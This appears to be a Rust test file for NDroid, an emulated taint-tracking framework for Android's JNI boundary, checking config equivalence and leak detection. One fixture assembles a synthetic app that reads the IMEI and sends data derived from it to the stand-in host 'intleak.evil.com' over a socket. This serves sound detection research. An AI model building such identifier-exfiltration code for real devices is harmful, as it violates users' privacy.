//! API-redesign equivalence: the construction surface is
//! [`SystemConfig`] + `NDroidSystem::from_config` (the deprecated
//! `quiet()` / `use_reference_engine()` shims are gone). Every knob
//! must be a pure function of the config value: same config, same
//! [`RunReport`], and report-excluded knobs (verbosity) must not leak
//! into it.

use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy, App};
use ndroid_core::{EngineKind, Mode, RunReport, SystemConfig};

const GALLERY: [(&str, fn() -> App); 3] = [
    ("qq_phonebook", qq_phonebook::qq_phonebook),
    ("thumb_spy", thumb_spy::thumb_spy),
    ("crypto_hider", crypto_hider::crypto_hider),
];

#[test]
fn legacy_new_matches_from_config_across_modes() {
    for mode in [Mode::Vanilla, Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
        for (name, build) in GALLERY {
            let legacy: RunReport = build().run(mode).expect("legacy run").report();
            let configured: RunReport = build()
                .run_with(SystemConfig::new(mode))
                .expect("configured run")
                .report();
            assert_eq!(legacy, configured, "{name} under {mode}");
        }
    }
}

#[test]
fn quiet_is_report_invariant() {
    for (name, build) in GALLERY {
        let quiet = build()
            .run_with(SystemConfig::ndroid().quiet(true))
            .expect("quiet run")
            .report();

        // RunReport excludes the trace log, so verbosity cannot change it.
        let verbose = build()
            .run_with(SystemConfig::ndroid())
            .expect("verbose run")
            .report();
        assert_eq!(quiet, verbose, "{name}: verbosity leaked into the report");
    }
}

#[test]
fn reference_config_selects_the_reference_engine_deterministically() {
    for (name, build) in GALLERY {
        let first = build()
            .run_with(SystemConfig::ndroid().reference())
            .expect("reference run")
            .report();
        assert_eq!(first.engine, EngineKind::Reference, "{name}");
        assert!(first.leaked(), "{name}: gallery app must leak on the reference engine");

        let second = build()
            .run_with(SystemConfig::ndroid().reference())
            .expect("reference rerun")
            .report();
        assert_eq!(first, second, "{name}: same config, same report");
    }
}

/// An app whose leak is carried *only* by the §V-B source policy: a
/// tainted **primitive** (the IMEI string's length) crosses the JNI
/// boundary in a register. Object-typed flows don't isolate the
/// policy — JNI marshalling hooks also read the DVM-level object
/// taint — but a primitive's only taint carrier at the boundary is the
/// policy's shadow-register initialization.
fn tainted_int_leak_app() -> App {
    use ndroid_apps::AppBuilder;
    use ndroid_arm::reg::RegList;
    use ndroid_arm::Reg;
    use ndroid_dvm::bytecode::DexInsn;
    use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
    use ndroid_libc::libc_addr;

    let mut b = AppBuilder::new("int-leak", "tainted int crosses JNI in a register");
    let c = b.class("Lapp/IntLeak;");
    let dest = b.data_cstr("intleak.evil.com");
    let buf = b.data_buffer(8);

    // void leakInt(int secret): stores the secret and sends the buffer.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0); // the secret int
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.ldr_const(Reg::R1, buf);
    b.asm.str(Reg::R4, Reg::R1, 0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R2, 4).unwrap();
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "leakInt", "VI", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let length = b
        .program
        .find_method_by_name("Ljava/lang/String;", "length")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke { kind: InvokeKind::Static, method: imei, args: vec![] },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke { kind: InvokeKind::Static, method: length, args: vec![0] },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke { kind: InvokeKind::Static, method: native, args: vec![0] },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/IntLeak;", "main").unwrap()
}

#[test]
fn source_policy_carries_the_boundary_taint() {
    // Under NDroid the policy installed at the JNI entry carries the
    // taint and the flow is detected.
    let ndroid = tainted_int_leak_app()
        .run_with(SystemConfig::ndroid())
        .expect("ndroid run")
        .report();
    assert!(ndroid.leaked(), "policy-carried primitive flow must be detected");
    let policies = ndroid.stats.as_ref().expect("NDroid stats").source_policies;
    assert!(policies >= 1, "a source policy must be installed");

    // TaintDroid has no source policy: the exfiltration still happens
    // (sink events fire) but no leak is flagged.
    let report = tainted_int_leak_app()
        .run_with(SystemConfig::new(Mode::TaintDroid))
        .expect("taintdroid run")
        .report();
    assert!(
        !report.leaked(),
        "without source policies the register-carried flow must go undetected"
    );
    assert!(
        !report.sink_events.is_empty(),
        "the exfiltration itself still happens"
    );
}
